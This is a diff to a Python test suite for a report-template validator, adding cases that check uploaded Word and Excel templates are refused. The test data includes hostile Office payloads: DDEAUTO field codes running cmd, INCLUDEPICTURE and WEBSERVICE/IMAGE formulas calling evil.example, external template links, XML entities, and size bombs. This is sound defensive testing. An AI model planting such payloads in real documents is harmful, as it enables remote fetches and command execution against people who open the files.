@@ -138,18 +138,75 @@ def test_text_of_a_report_is_never_read_as_a_template(report: PeriodicReport) ->
         ("word/afchunk.mht", b"x", "embedded"),
         ("word/evil.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "xml"),
         ("word/evil.xml", '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16"), "xml"),
-        ("word/evil.xml", b"<a>DDEAUTO c:\\\\windows\\\\cmd</a>", "fetches"),
+        ("word/evil.xml", b"<a><instrText>DDEAUTO c:\\windows\\cmd</instrText></a>", "fetches"),
+        ("word/evil.xml", b"<a><instrText>D</instrText><instrText>&#68;E c:\\x</instrText></a>", "fetches"),
+        ("word/evil.xml", b'<a><fldSimple instr="INCLUDEPICTURE http://evil.example/x"/></a>', "fetches"),
+        ("word/evil.dat", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "xml"),
+        ("word/evil.xml", b'<a><gridSpan val="900000000"/></a>', "too-wide"),
         (
             "word/_rels/settings.xml.rels",
             b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="t" '
             b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
             "external",
         ),
+        (
+            "word/_rels/SETTINGS.XML.RELS",
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
+            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="page.htm"/></Relationships>',
+            "embedded",
+        ),
         ("word/big.xml", b" " * (MOST_UNPACKED + 1), "bomb"),
     ],
 )
 def test_macros_links_document_types_and_bombs_are_refused(reference_data: None, name: str, part: bytes, code: str) -> None:
     assert code in refused(with_part(word("{{ title }}"), name, part))
+
+
+@pytest.mark.parametrize(
+    ("part", "code"),
+    [
+        (b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>', "too-wide"),
+        (b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>', "too-wide"),
+        (b'</sheetData><hyperlinks><hyperlink ref="A1:XFD1048576" location="a"/></hyperlinks>', "too-wide"),
+        (b'<row r="9"><c r="A9"><f>_xlfn.&#87;EBSERVICE("http://evil.example")</f></c></row></sheetData>', "fetches"),
+        (b'<row r="9"><c r="A9"><f>_xlfn.IMAGE("http://evil.example")</f></c></row></sheetData>', "fetches"),
+    ],
+)
+def test_a_small_workbook_that_would_be_laid_out_without_end_or_fetches_is_refused(reference_data: None, part: bytes, code: str) -> None:
+    usual = sheet("{{ title }}")
+    with zipfile.ZipFile(BytesIO(usual)) as archive:
+        content = archive.read("xl/worksheets/sheet1.xml").replace(b"</sheetData>", part)
+    assert code in refused(with_part(usual, "xl/worksheets/sheet1.xml", content), FileFormat.XLSX)
+
+
+def test_what_a_printer_was_set_to_is_no_macro(reference_data: None) -> None:
+    check_template(with_part(sheet("{{ title }}"), "xl/printerSettings/printerSettings1.bin", b"x"), FileFormat.XLSX)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{{ title|join(title)|join(title)|join(title)|join(title) }}",
+        "{% for letter in title %}{{ letter }}{% endfor %}",
+        "{% for a in figures %}{% for b in figures %}{% for c in figures %}x{% endfor %}{% endfor %}{% endfor %}",
+        "{{ value.delegations_out.now_number|length }}",
+    ],
+)
+def test_a_template_that_would_grow_without_end_or_fails_while_filled_is_told_so(report: PeriodicReport, text: str) -> None:
+    paper = paper_of(report, today=date(2025, 8, 1))
+    for content, file_format in ((word(text), FileFormat.DOCX), (sheet(text), FileFormat.XLSX)):
+        template = ReportTemplate(format=file_format, content=content)
+        with pytest.raises(ValidationError) as error:
+            word_of(paper, template) if file_format == FileFormat.DOCX else excel_of(paper, template)
+        assert error.value.code == "template"
+
+
+def test_a_field_in_the_properties_of_a_file_does_no_more_than_one_in_its_text(report: PeriodicReport) -> None:
+    document = Document()
+    document.core_properties.subject = "{{ 'x' * 9 }}"
+    with pytest.raises(ValidationError) as error:
+        word_of(paper_of(report, today=date(2025, 8, 1)), ReportTemplate(format=FileFormat.DOCX, content=_saved(document)))
+    assert error.value.code == "template"
 
 
 def test_what_is_no_office_file_is_refused(reference_data: None) -> None:
